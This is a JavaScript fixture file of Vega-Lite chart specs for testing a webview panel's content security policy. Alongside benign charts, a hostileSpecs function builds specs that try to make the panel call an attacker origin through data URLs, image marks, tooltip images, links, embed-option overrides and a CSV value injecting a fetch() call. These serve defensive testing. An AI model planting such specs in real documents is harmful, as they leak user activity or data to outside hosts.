// The charts the webview tests render. Good specs exercise what the CSP would break without ast + interpreter
// (calculate, filter, tooltips, selections, inline CSV); hostile specs are each way a note could make the panel
// call someone, measured on a naive vega-embed page before this panel existed.

const values = [
  { a: 'A', b: 28, c: 3 },
  { a: 'B', b: 55, c: 7 },
  { a: 'C', b: 43, c: 5 },
];
const bars = { mark: 'bar', encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } } };

export const goodSpecs = {
  calculate: { data: { values }, transform: [{ calculate: 'datum.b * 2 + datum.c', as: 'd' }], mark: 'bar', encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'd', type: 'quantitative' } } },
  filter: { data: { values }, transform: [{ filter: 'datum.b > 30 && indexof(datum.a, "C") < 0' }], ...bars },
  tooltip: { data: { values }, mark: 'bar', encoding: { ...bars.encoding, tooltip: [{ field: 'a' }, { field: 'b', type: 'quantitative', format: '.1f' }] } },
  brush: {
    data: { values: Array.from({ length: 50 }, (_, i) => ({ x: i, y: (i * 37) % 50 })) },
    params: [{ name: 'brush', select: { type: 'interval' } }],
    mark: 'point',
    encoding: {
      x: { field: 'x', type: 'quantitative' },
      y: { field: 'y', type: 'quantitative' },
      color: { condition: { param: 'brush', value: 'steelblue' }, value: 'grey' },
    },
  },
  csv: { data: { values: 'a,b\nA,28\nB,55\nC,43', format: { type: 'csv' } }, ...bars },
  tsv: { data: { values: 'a\tb\nA\t28\nB\t55', format: { type: 'tsv' } }, ...bars },
  dsv: { data: { values: 'a|b\nA|28\nB|55', format: { type: 'dsv', delimiter: '|' } }, ...bars },
};

/** `attacker` is the listening server's origin; `own` the panel's (allowed by the CSP for images). */
export function hostileSpecs(attacker, own) {
  const point = (extra, mark = {}) => ({
    data: { values: [{ a: 1, b: 1, u: `${attacker}/link`, img: `${attacker}/tip.png`, image: `${attacker}/data-tip.png` }] },
    mark: { type: 'square', size: 4000, ...mark },
    ...extra,
  });
  const xy = { x: { field: 'a', type: 'quantitative' }, y: { field: 'b', type: 'quantitative' } };
  return {
    'data.url': { data: { url: `${attacker}/data.csv`, format: { type: 'csv' } }, ...bars },
    'image mark URL': { data: { values: [{ u: `${attacker}/image.png` }] }, mark: { type: 'image', width: 20, height: 20 }, encoding: { url: { field: 'u', type: 'nominal' } } },
    'image mark URL on the panel origin': { data: { values: [{ u: `${own}/media/probe.png` }] }, mark: { type: 'image', width: 20, height: 20 }, encoding: { url: { field: 'u', type: 'nominal' } } },
    'tooltip image (whole datum)': point({ encoding: xy }, { tooltip: { content: 'data' } }),
    'tooltip image field': point({ encoding: { ...xy, tooltip: [{ field: 'img', title: 'image' }] } }),
    'href click': point({ encoding: { ...xy, href: { field: 'u', type: 'nominal' } } }),
    'embedOptions ast:false': { data: { values }, transform: [{ calculate: 'datum.b * 2', as: 'd' }], usermeta: { embedOptions: { ast: false } }, ...bars },
    'embedOptions mode:vega': { data: { values }, usermeta: { embedOptions: { mode: 'vega' } }, ...bars },
    'embedOptions actions:true': { data: { values }, usermeta: { embedOptions: { actions: true, editorUrl: `${attacker}/editor` } }, ...bars },
    'embedOptions config URL': { data: { values }, usermeta: { embedOptions: { config: `${attacker}/config.json` } }, ...bars },
    'embedOptions loader': { data: { url: 'data.csv', format: { type: 'csv' } }, usermeta: { embedOptions: { loader: { baseURL: `${attacker}/` } } }, ...bars },
    'vega $schema': { $schema: 'https://vega.github.io/schema/vega/v6.json', data: [{ name: 't', url: `${attacker}/vega.json` }], marks: [] },
    'csv code injection': {
      data: { values: `"a""]);fetch('${attacker}/csv');//",b\nA,28\nB,55`, format: { type: 'csv' } },
      mark: 'bar',
      encoding: { x: { field: 'b', type: 'quantitative' } },
    },
  };
}
